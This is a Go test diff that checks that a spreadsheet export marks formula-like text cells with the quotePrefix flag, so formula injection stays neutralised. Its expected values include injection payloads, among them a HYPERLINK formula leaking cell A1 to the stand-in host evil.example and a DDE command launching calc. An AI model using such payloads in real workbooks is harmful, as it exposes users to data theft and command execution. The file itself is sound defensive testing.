@@ -58,6 +58,7 @@ var toolLink = regexp.MustCompile(`^HYPERLINK\("#'?[A-Za-z ()0-9]+'?![A-Z]+[0-9]
 type xlsxCell struct {
 	sheet, ref, typ, style string
 	value, formula         string
+	quoted                 bool // its cell format has the quotePrefix flag: text, even when edited
 }
 
 // readXLSX parses every part of a workbook with a strict XML decoder
@@ -71,6 +72,7 @@ func readXLSX(t *testing.T, path string) []xlsxCell {
 	}
 	defer zr.Close()
 	var shared []string
+	var quoted map[string]bool
 	var sheets []*zip.File
 	for _, f := range zr.File {
 		if !strings.HasSuffix(f.Name, ".xml") && !strings.HasSuffix(f.Name, ".rels") {
@@ -95,6 +97,8 @@ func readXLSX(t *testing.T, path string) []xlsxCell {
 		switch {
 		case f.Name == "xl/sharedStrings.xml":
 			shared = sharedStrings(t, data)
+		case f.Name == "xl/styles.xml":
+			quoted = quotePrefixed(t, data)
 		case strings.HasPrefix(f.Name, "xl/worksheets/sheet"):
 			sheets = append(sheets, f)
 		}
@@ -106,7 +110,31 @@ func readXLSX(t *testing.T, path string) []xlsxCell {
 		rc.Close()
 		cells = append(cells, sheetCells(t, f.Name, data, shared)...)
 	}
+	for i := range cells {
+		cells[i].quoted = quoted[cells[i].style]
+	}
 	return cells
+}
+
+// quotePrefixed lists the cell formats (by index, as a cell's s attribute
+// names them) that carry the quotePrefix flag.
+func quotePrefixed(t *testing.T, data []byte) map[string]bool {
+	t.Helper()
+	var st struct {
+		Xf []struct {
+			QuotePrefix string `xml:"quotePrefix,attr"`
+		} `xml:"cellXfs>xf"`
+	}
+	if err := xml.Unmarshal(data, &st); err != nil {
+		t.Fatalf("styles.xml: %v", err)
+	}
+	out := map[string]bool{}
+	for i, xf := range st.Xf {
+		if xf.QuotePrefix == "1" || xf.QuotePrefix == "true" {
+			out[strconv.Itoa(i)] = true
+		}
+	}
+	return out
 }
 
 func wellFormed(data []byte) error {
@@ -200,9 +228,11 @@ func assertSafeOutputs(t *testing.T, dir string) {
 			}
 			text := c.typ == "s" || c.typ == "inlineStr" || c.typ == "str"
 			// A text cell holding a plain number ("-250" carried through)
-			// runs nothing, even when someone edits it.
-			if text && formulaStart(c.value) {
-				t.Errorf("results.xlsx %s %s: text %q starts a formula", c.sheet, c.ref, c.value)
+			// runs nothing, even when someone edits it; any other text that
+			// starts like a formula must be marked quotePrefix, so that it
+			// stays text when edited.
+			if text && formulaStart(c.value) && !c.quoted {
+				t.Errorf("results.xlsx %s %s: text %q starts a formula and is not marked quotePrefix", c.sheet, c.ref, c.value)
 			}
 			if !text && c.typ != "" && c.typ != "n" && c.typ != "b" {
 				t.Errorf("results.xlsx %s %s: unexpected cell type %q", c.sheet, c.ref, c.typ)
@@ -359,16 +389,18 @@ func TestFormulaInjectionIsNeutralised(t *testing.T) {
 
 	t.Run("results.xlsx: text neutralised, dates stay date cells", func(t *testing.T) {
 		cells := readXLSX(t, filepath.Join(out, "results.xlsx"))
+		// The workbook shows the text as typed, marked quotePrefix rather
+		// than behind a visible apostrophe.
 		text := map[string]bool{}
 		for _, c := range cells {
-			if c.typ == "s" || c.typ == "inlineStr" || c.typ == "str" {
+			if (c.typ == "s" || c.typ == "inlineStr" || c.typ == "str") && c.quoted {
 				text[c.value] = true
 			}
 		}
-		for _, want := range []string{`'=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "'+1", "'-2+3",
-			"'@SUM(A1)", "'\tx", "'＝1", "'＋1", "'－1", `'=cmd|' /C calc'!A0`, "'=1+2"} {
+		for _, want := range []string{`=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "+1", "-2+3",
+			"@SUM(A1)", "\tx", "＝1", "＋1", "－1", `=cmd|' /C calc'!A0`, "=1+2"} {
 			if !text[want] {
-				t.Errorf("results.xlsx has no text cell %q", want)
+				t.Errorf("results.xlsx has no quote-prefixed text cell %q", want)
 			}
 		}
 		// 2026-03-05 is Excel serial 46086 (days since 1899-12-30): the
